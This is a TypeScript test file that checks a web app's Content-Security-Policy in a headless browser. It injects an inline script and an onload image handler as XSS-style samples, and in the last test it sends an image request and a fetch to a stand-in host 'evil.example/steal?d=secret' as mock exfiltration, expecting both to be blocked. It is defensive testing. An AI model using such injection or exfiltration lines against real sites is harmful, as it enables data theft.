import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { readdirSync, readFileSync } from 'node:fs';
import type { Browser, Page } from 'playwright-core';
import { launch, openApp } from './chromium';

/**
 * The built app carries a strict Content-Security-Policy: if a file-supplied
 * name ever reached the page as markup, the browser would still refuse to run
 * it, and nothing could be sent to a foreign host. These tests check what the
 * browser enforces, not the tag's text alone.
 */
const baseUrl = inject('baseUrl');
let browser: Browser;
let page: Page;
let consoleErrors: string[];

const csp = () => page.evaluate(() => (window as unknown as { __csp: string[] }).__csp);

beforeAll(async () => {
  browser = await launch();
  ({ page, consoleErrors } = await openApp(browser, baseUrl));
});
afterAll(async () => {
  await browser?.close();
});

describe('Content-Security-Policy', () => {
  it('is declared: scripts from the app only, no inline script, no eval, no plugins', async () => {
    const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    expect(policy).toMatch(/script-src 'self'(;|$)/);
    expect(policy).not.toMatch(/unsafe-inline|unsafe-eval/);
    expect(policy).not.toMatch(/\*(;|\s|$)/); // no wildcard source
    expect(policy).toContain("object-src 'none'");
    expect(policy).toContain("base-uri 'none'");
    // The app itself loaded under it with nothing refused.
    expect(await csp()).toEqual([]);
  });

  it('refuses an inline script and an inline event handler put into the page', async () => {
    const ran = await page.evaluate(async () => {
      const w = window as unknown as { __pwned?: number };
      const s = document.createElement('script');
      s.textContent = 'window.__pwned = 1';
      document.body.append(s);
      const div = document.createElement('div');
      div.innerHTML = '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="window.__pwned = 2">';
      document.body.append(div);
      await new Promise((r) => setTimeout(r, 300));
      s.remove();
      div.remove();
      return w.__pwned ?? 0;
    });
    expect(ran).toBe(0);
    expect((await csp()).some((v) => v.startsWith('script-src'))).toBe(true);
  });

  it('needs no eval: no built script calls eval or new Function (the policy would refuse them)', () => {
    // DevTools-evaluated code is exempt from CSP, so this is checked in the build the browser loads.
    const scripts = readdirSync('dist/assets').filter((f) => f.endsWith('.js'));
    expect(scripts.length).toBeGreaterThan(3);
    const offenders = scripts.filter((f) =>
      /new Function\(|(^|[^\w.$])eval\(/.test(readFileSync(`dist/assets/${f}`, 'utf8')),
    );
    expect(offenders).toEqual([]);
  });

  it('sends nothing to a foreign host (an image or a fetch to elsewhere is blocked)', async () => {
    const outcome = await page.evaluate(async () => {
      const img = new Image();
      const loaded = new Promise<string>((r) => {
        img.onload = () => r('loaded');
        img.onerror = () => r('blocked');
      });
      img.src = 'https://evil.example/steal.png?d=secret';
      let fetched = 'loaded';
      try {
        await fetch('https://evil.example/steal?d=secret');
      } catch {
        fetched = 'blocked';
      }
      return [await loaded, fetched];
    });
    expect(outcome).toEqual(['blocked', 'blocked']);
    const violations = await csp();
    expect(violations.some((v) => v.startsWith('img-src') && v.includes('evil.example'))).toBe(true);
    expect(violations.some((v) => v.startsWith('connect-src') && v.includes('evil.example'))).toBe(true);
    // Only the refusals this test provoked were logged; the app itself raised none.
    expect(consoleErrors.filter((e) => !/Content Security Policy|evil\.example/.test(e))).toEqual([]);
  });
});
